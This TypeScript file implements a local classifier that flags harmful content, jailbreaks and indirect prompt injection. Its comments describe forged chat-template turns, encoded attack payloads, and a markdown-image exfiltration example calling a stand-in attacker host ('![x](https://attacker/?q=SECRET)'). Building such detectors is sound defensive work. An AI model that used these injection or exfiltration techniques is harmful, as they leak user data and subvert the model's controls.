import {
  ClassifierUnavailableError,
  HARM_CATEGORIES,
  SEVERITIES,
  type CategoryVerdict,
  type Classification,
  type ClassifyInput,
  type HarmCategory,
  type Signal,
  type TextClassifier,
} from '../classifier.js';
import { ATTACK_LEXICON, INDIRECT_WEIGHTS, JAILBREAK_WEIGHTS, TEMPLATE_MARKERS } from './attack-lexicon.js';
import { AttackScorer } from './attack-scoring.js';
import { CONTEXT_LEXICON } from './context-lexicon.js';
import { findEncodedPayloads } from './encoded-payloads.js';
import { HARASSMENT_LEXICON } from './harassment-lexicon.js';
import { HASHED_SLURS, HATE_LEXICON } from './hate-lexicon.js';
import { Tag } from './lexicon-tags.js';
import { loadLearnedModel } from './learned-scorer.js';
import { PhraseMatcher } from './phrase-matcher.js';
import { PROFANITY_LEXICON } from './profanity-lexicon.js';
import { SELF_HARM_LEXICON } from './self-harm-lexicon.js';
import { judgeCategories, type CategoryLevels } from './severity-rules.js';
import { SEXUAL_LEXICON } from './sexual-lexicon.js';
import { tokenise } from './text-normaliser.js';
import { VIOLENCE_LEXICON } from './violence-lexicon.js';

/**
 * The built-in classifier: lexicons and context rules, no model and no network. It answers every
 * signal (the four harm categories, jailbreak, indirect attack, profanity) in tens of
 * microseconds for a typical prompt and about half a millisecond for a 4,000-token one (measured
 * by eval/evaluate.mjs), so it can run inline on every request and on streamed output. It is a first line, not a judge: it knows the words and
 * a little grammar, not meaning. docs/content-safety-classifier.md lists what it misses and how
 * to put a model-backed classifier behind it.
 *
 * - Categories and profanity are judged on `text` (prompt or completion), including any
 *   `<documents>…</documents>` sections in it and any base64 payload decoded from it.
 * - Jailbreak is judged, for prompts only, on `text` outside `<documents>` sections.
 * - Indirect attack is judged, for prompts only, on `<documents>` sections and on `documents`.
 * - For completions, `jailbreak` and `indirect_attack` are absent: they describe attacks on the
 *   model, which a completion is not.
 *
 * All lexicons are compiled once per process, on first construction, into one matcher; `classify`
 * does no compilation of any kind.
 */

/**
 * Score reported for a category at each level; a category whose words appear but judge safe gets
 * SAFE_TOUCHED_SCORE.
 */
const LEVEL_SCORES = [0, 0.4, 0.7, 0.92];
const SAFE_TOUCHED_SCORE = 0.1;
/** Attack score at or above which jailbreak / indirect attack is reported as detected. */
export const ATTACK_THRESHOLD = 0.5;
/** Weight of a chat-template control string ("<|im_start|>system") found in the text. */
const TEMPLATE_MARKER_WEIGHT = 0.7;
/**
 * Weight of a markdown image pointing at a URL in a document: the usual channel for exfiltrating
 * data through a client that renders images ("![x](https://attacker/?q=SECRET)").
 */
const MARKDOWN_IMAGE_WEIGHT = 0.3;
/** Weight of a base64 payload that decodes to text; and of one whose text is itself an attack. */
const PAYLOAD_WEIGHT = 0.3;
const ATTACK_PAYLOAD_WEIGHT = 0.9;

const DOCUMENTS_OPEN = '<documents>';
const DOCUMENTS_CLOSE = '</documents>';

/**
 * The verdicts a category can get, one shared frozen object each (by level; and safe with its
 * words seen), and the other answers that carry no number: a classification then allocates
 * nothing for them. Callers only read verdicts, never write them.
 */
const VERDICTS: readonly CategoryVerdict[] = LEVEL_SCORES.map((score, level) => Object.freeze({ severity: SEVERITIES[level], score }));
const SAFE_TOUCHED: CategoryVerdict = Object.freeze({ severity: 'safe', score: SAFE_TOUCHED_SCORE });
const PROFANE = Object.freeze({ detected: true });
const NOT_PROFANE = Object.freeze({ detected: false });
const NO_ATTACK = Object.freeze({ detected: false, score: 0 });
const NO_SECTIONS: readonly string[] = Object.freeze([]);
const NO_PAYLOADS: readonly string[] = Object.freeze([]);

/**
 * TEMPLATE_MARKERS grouped by first character, so that looking for all of them costs one native
 * `indexOf` per distinct first character rather than one `includes` per marker.
 */
const MARKERS_BY_FIRST = new Map<string, string[]>();
for (const marker of TEMPLATE_MARKERS) {
  const group = MARKERS_BY_FIRST.get(marker[0]);
  if (group) group.push(marker);
  else MARKERS_BY_FIRST.set(marker[0], [marker]);
}

interface Engine {
  readonly matcher: PhraseMatcher;
  readonly jailbreak: AttackScorer;
  readonly indirect: AttackScorer;
}

let engine: Engine | undefined;

function compiledEngine(): Engine {
  if (engine) return engine;
  loadLearnedModel();
  engine = {
    matcher: new PhraseMatcher(
      [
        ...CONTEXT_LEXICON,
        ...VIOLENCE_LEXICON,
        ...SELF_HARM_LEXICON,
        ...SEXUAL_LEXICON,
        ...HATE_LEXICON,
        ...HARASSMENT_LEXICON,
        ...ATTACK_LEXICON,
        ...PROFANITY_LEXICON,
      ],
      { hashedTerms: HASHED_SLURS, benignTag: Tag.BENIGN },
    ),
    jailbreak: new AttackScorer({ tags: JAILBREAK_WEIGHTS, exfiltration: false }),
    indirect: new AttackScorer({ tags: INDIRECT_WEIGHTS, exfiltration: true }),
  };
  return engine;
}

/**
 * What one text contributes; computed in full before the next text is tokenised, because the
 * tokeniser and the matcher reuse their buffers.
 */
interface Analysis {
  readonly levels: CategoryLevels | undefined;
  readonly profane: boolean;
  /** Attack score under the scorer asked for, 0 when none was. */
  readonly attack: number;
  /** The normalised text and where base64 payloads may start in it (see TokenStream.mixedCase). */
  readonly source: string;
  readonly payloadHints: readonly number[];
}

export class LocalClassifier implements TextClassifier {
  readonly name = 'local';
  readonly provides: ReadonlySet<Signal> = new Set<Signal>(['categories', 'jailbreak', 'indirect_attack', 'profanity']);
  private readonly engine: Engine;

  constructor() {
    this.engine = compiledEngine();
  }

  async classify(input: ClassifyInput, signal?: AbortSignal): Promise<Classification> {
    if (signal?.aborted) throw new ClassifierUnavailableError(this.name, 'aborted', { cause: signal.reason });
    return this.classifySync(input);
  }

  /** The same answer as `classify`, synchronously (it never waits on anything). */
  classifySync(input: ClassifyInput): Classification {
    const { text, direction } = input;
    const prompt = direction === 'prompt';
    const { jailbreak, indirect } = this.engine;
    let outside = text;
    let inside = NO_SECTIONS;
    if (prompt && text.includes(DOCUMENTS_OPEN)) ({ outside, inside } = splitDocuments(text));

    // Categories and profanity: the prompt outside and inside <documents>, and decoded payloads.
    const main = this.analyse(outside, true, prompt ? jailbreak : undefined);
    let judged: Analysis[] | undefined;
    let jailbreakScore = main.attack;
    if (prompt && hasTemplateMarker(outside)) {
      jailbreakScore = jailbreak.combine(jailbreakScore, TEMPLATE_MARKER_WEIGHT);
    }
    for (const payload of payloadsOf(main)) {
      const decoded = this.analyse(payload, true, jailbreak);
      (judged ??= [main]).push(decoded);
      jailbreakScore = jailbreak.combine(jailbreakScore, PAYLOAD_WEIGHT);
      if (decoded.attack >= ATTACK_THRESHOLD) jailbreakScore = jailbreak.combine(jailbreakScore, ATTACK_PAYLOAD_WEIGHT);
    }
    let indirectScore = 0;
    for (const section of inside) {
      const analysis = this.analyse(section, true, indirect);
      (judged ??= [main]).push(analysis);
      indirectScore = Math.max(indirectScore, this.documentScore(section, analysis));
    }

    // Usually the text alone was judged: its levels are the answer.
    const categories = judged === undefined ? verdictsOf(main) : combinedVerdicts(judged);
    const profanity = (judged === undefined ? main.profane : judged.some((analysis) => analysis.profane)) ? PROFANE : NOT_PROFANE;
    if (!prompt) return { categories, profanity };

    // Documents and tool results: judged for indirect attacks only.
    const documents = input.documents;
    if (documents) {
      for (const document of documents) {
        const analysis = this.analyse(document, false, indirect);
        indirectScore = Math.max(indirectScore, this.documentScore(document, analysis));
      }
    }
    return {
      categories,
      profanity,
      jailbreak: attackVerdict(jailbreakScore),
      indirect_attack: attackVerdict(indirectScore),
    };
  }

  /** A document's indirect-attack score: its own cues, forged template turns, encoded attacks. */
  private documentScore(raw: string, analysis: Analysis): number {
    const { indirect } = this.engine;
    let score = analysis.attack;
    if (hasTemplateMarker(raw)) score = indirect.combine(score, TEMPLATE_MARKER_WEIGHT);
    if (raw.includes('](http') && raw.includes('![')) score = indirect.combine(score, MARKDOWN_IMAGE_WEIGHT);
    for (const payload of payloadsOf(analysis)) {
      if (this.analyse(payload, false, indirect).attack >= ATTACK_THRESHOLD) {
        score = indirect.combine(score, ATTACK_PAYLOAD_WEIGHT);
      }
    }
    return score;
  }

  private analyse(text: string, judge: boolean, scorer: AttackScorer | undefined): Analysis {
    const stream = tokenise(text);
    const hits = this.engine.matcher.match(stream);
    let profane = false;
    for (let h = 0; h < hits.count; h++) {
      if (hits.tag[h] === Tag.PROFANITY) {
        profane = true;
        break;
      }
    }
    return {
      levels: judge ? judgeCategories(stream, hits) : undefined,
      profane,
      attack: scorer ? scorer.score(stream, hits) : 0,
      source: stream.source,
      payloadHints: stream.mixedCase,
    };
  }
}

/** The prompt outside `<documents>…</documents>` sections, and the sections' contents. */
function splitDocuments(text: string): { outside: string; inside: string[] } {
  let open = text.indexOf(DOCUMENTS_OPEN);
  if (open < 0) return { outside: text, inside: [] };
  const inside: string[] = [];
  let outside = '';
  let from = 0;
  while (open >= 0) {
    outside += text.slice(from, open) + '\n\n';
    const bodyStart = open + DOCUMENTS_OPEN.length;
    const close = text.indexOf(DOCUMENTS_CLOSE, bodyStart);
    // An unclosed section runs to the end of the prompt.
    const bodyEnd = close < 0 ? text.length : close;
    inside.push(text.slice(bodyStart, bodyEnd));
    from = close < 0 ? text.length : close + DOCUMENTS_CLOSE.length;
    open = text.indexOf(DOCUMENTS_OPEN, from);
  }
  outside += text.slice(from);
  return { outside, inside };
}

function payloadsOf(analysis: Analysis): readonly string[] {
  return analysis.payloadHints.length === 0 ? NO_PAYLOADS : findEncodedPayloads(analysis.source, analysis.payloadHints);
}

/** Whether `text` contains any of TEMPLATE_MARKERS. */
function hasTemplateMarker(text: string): boolean {
  for (const [first, markers] of MARKERS_BY_FIRST) {
    for (let at = text.indexOf(first); at >= 0; at = text.indexOf(first, at + 1)) {
      for (const marker of markers) if (text.startsWith(marker, at)) return true;
    }
  }
  return false;
}

/** One analysis's category levels as verdicts. */
function verdictsOf(analysis: Analysis): Record<HarmCategory, CategoryVerdict> {
  const levels = analysis.levels!;
  return {
    hate: verdictOf(levels.hate.level, levels.hate.touched),
    sexual: verdictOf(levels.sexual.level, levels.sexual.touched),
    violence: verdictOf(levels.violence.level, levels.violence.touched),
    self_harm: verdictOf(levels.self_harm.level, levels.self_harm.touched),
  };
}

/** Per category, the highest level any of the analyses reached, touched if any touched it. */
function combinedVerdicts(judged: readonly Analysis[]): Record<HarmCategory, CategoryVerdict> {
  const categories = {} as Record<HarmCategory, CategoryVerdict>;
  for (const category of HARM_CATEGORIES) {
    let level = 0;
    let touched = false;
    for (const analysis of judged) {
      const judgedLevel = analysis.levels![category];
      if (judgedLevel.level > level) level = judgedLevel.level;
      touched ||= judgedLevel.touched;
    }
    categories[category] = verdictOf(level, touched);
  }
  return categories;
}

function verdictOf(level: number, touched: boolean): CategoryVerdict {
  return level === 0 && touched ? SAFE_TOUCHED : VERDICTS[level];
}

function attackVerdict(score: number): { detected: boolean; score: number } {
  return score === 0 ? NO_ATTACK : { detected: score >= ATTACK_THRESHOLD, score: round(score) };
}

function round(score: number): number {
  return Math.round(score * 1000) / 1000;
}
